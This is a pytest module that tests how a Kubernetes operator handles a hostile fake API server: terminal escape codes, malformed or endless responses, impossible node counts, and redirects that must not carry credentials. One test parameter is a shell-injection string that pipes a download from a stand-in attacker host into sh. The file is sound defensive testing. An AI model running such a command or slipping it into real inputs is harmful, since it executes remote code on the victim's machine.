"""A Cluster whose server is somebody's program: whatever it answers, the operator goes on."""

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager, suppress
from pathlib import Path

import pytest
from aiohttp import web

from listening import server_tls, serving
from operators import ClusterObjects, operator
from pequod.dev.kubeconfig import token_kubeconfig
from pequod.dev.pki import Authority
from waiting import until

UID = "0f0f0f0f-1111-2222-3333-444444444444"
AUTHORITY = Authority()

Page = Callable[[web.Request], Awaitable[web.StreamResponse]]


def namespace(uid: str) -> dict[str, object]:
    return {"metadata": {"name": "kube-system", "uid": uid, "resourceVersion": "1"}}


async def version(_request: web.Request) -> web.Response:
    return web.json_response({"gitVersion": "v1.36.3"})


async def system(_request: web.Request) -> web.Response:
    return web.json_response(namespace(UID))


async def nodes(_request: web.Request) -> web.Response:
    listed = {"kind": "NodeList", "metadata": {"resourceVersion": "1"}, "items": []}
    return web.json_response(listed)


@asynccontextmanager
async def server(**pages: Page) -> AsyncIterator[bytes]:
    """An "API server" of other people's making; yields the kubeconfig for it."""
    known = {
        "/version": pages.get("version", version),
        "/api/v1/namespaces/kube-system": pages.get("system", system),
        "/api/v1/nodes": pages.get("nodes", nodes),
    }

    async def answer(request: web.Request) -> web.StreamResponse:
        if (page := known.get(request.path)) is None:
            raise web.HTTPNotFound
        return await page(request)

    async with serving(answer, tls=server_tls(AUTHORITY, "127.0.0.1")) as port:
        yield token_kubeconfig(
            name="hostile",
            server=f"https://127.0.0.1:{port}",
            authority=AUTHORITY.certificate,
            token="canary",
        )


@pytest.fixture(scope="module", autouse=True)
def running(account: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    with operator(account, tmp_path_factory.mktemp("operator") / "log") as one:
        one.wait_until_ready()
        yield
        assert one.process.poll() is None, one.text


async def registered(clusters: ClusterObjects, kubeconfig: bytes) -> None:
    await asyncio.to_thread(clusters.put_secret, "hostile", kubeconfig)
    await asyncio.to_thread(clusters.create, "hostile", secret="hostile")


async def test_a_version_that_is_too_long_or_steers_terminals_is_cut_and_escaped(
    clusters: ClusterObjects,
) -> None:
    async def long(_request: web.Request) -> web.Response:
        return web.json_response({"gitVersion": "v1\x1b[31m\n" + "x" * 500})

    async with server(version=long) as kubeconfig:
        await registered(clusters, kubeconfig)
        await until(lambda: clusters.is_ready("hostile"))
        shown = clusters.status("hostile")["version"]
    assert len(shown) == 63
    assert shown.isprintable()


@pytest.mark.parametrize("uid", ["", "$(curl attacker|sh)", UID.upper(), UID + "\n"])
async def test_an_identity_that_is_none_is_not_pinned(clusters: ClusterObjects, uid: str) -> None:
    async def other(_request: web.Request) -> web.Response:
        return web.json_response(namespace(uid))

    async with server(system=other) as kubeconfig:
        await registered(clusters, kubeconfig)
        await until(lambda: clusters.reason("hostile", "Authorized") == "BrokenAnswer")
        assert "identity" not in clusters.status("hostile")
        assert "curl" not in clusters.condition("hostile")["message"]


@pytest.mark.parametrize("remaining", [-5, 10**15])
async def test_a_number_of_nodes_that_cannot_be_is_bounded(
    clusters: ClusterObjects, remaining: int
) -> None:
    async def many(_request: web.Request) -> web.Response:
        metadata = {"resourceVersion": "1", "remainingItemCount": remaining}
        return web.json_response({"kind": "NodeList", "metadata": metadata, "items": []})

    async with server(nodes=many) as kubeconfig:
        await registered(clusters, kubeconfig)
        await until(lambda: clusters.is_ready("hostile"))
        assert 0 <= clusters.status("hostile")["nodes"] <= 1_000_000


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"[" * 100_000,
        b"\xff\xfe",
        b'{"gitVersion": {"a": 1}}',
    ],
    ids=["empty", "deep", "not text", "wrong type"],
)
async def test_an_answer_that_makes_no_sense_is_said_to_make_none(
    clusters: ClusterObjects, body: bytes
) -> None:
    async def broken(_request: web.Request) -> web.Response:
        return web.Response(body=body, content_type="application/json")

    async with server(version=broken) as kubeconfig:
        await registered(clusters, kubeconfig)
        await until(lambda: clusters.reason("hostile", "Reachable") == "BrokenAnswer")
        assert clusters.status("hostile")["reachable"] is False


async def test_an_answer_that_would_fill_the_memory_is_cut_off(clusters: ClusterObjects) -> None:
    async def large(request: web.Request) -> web.StreamResponse:
        answer = web.StreamResponse()
        await answer.prepare(request)
        with suppress(ConnectionError):
            for _ in range(20 * 2**4):
                await answer.write(b"x" * 2**16)
                await asyncio.sleep(0)
        return answer

    async with server(version=large) as kubeconfig:
        await registered(clusters, kubeconfig)
        await until(lambda: clusters.reason("hostile", "Reachable") == "BrokenAnswer")
        assert "larger than" in clusters.condition("hostile")["message"]


async def test_case_79_a_redirect_gets_no_credentials(clusters: ClusterObjects) -> None:
    seen: list[str] = []

    async def away(request: web.Request) -> web.Response:
        seen.append(request.path)
        return web.Response(status=307, headers={"Location": "/api/v1/nodes"})

    async with server(version=away, nodes=away) as kubeconfig:
        await registered(clusters, kubeconfig)
        await until(lambda: clusters.reason("hostile", "Reachable") == "ApiError")
        assert set(seen) == {"/version"}


async def test_an_answer_that_never_ends_is_given_up(clusters: ClusterObjects) -> None:
    async def drip(request: web.Request) -> web.StreamResponse:
        answer = web.StreamResponse()
        await answer.prepare(request)
        while True:
            await answer.write(b" ")
            await asyncio.sleep(0.2)

    async with server(version=drip) as kubeconfig:
        await registered(clusters, kubeconfig)
        await until(lambda: clusters.reason("hostile", "Reachable") == "TimedOut")
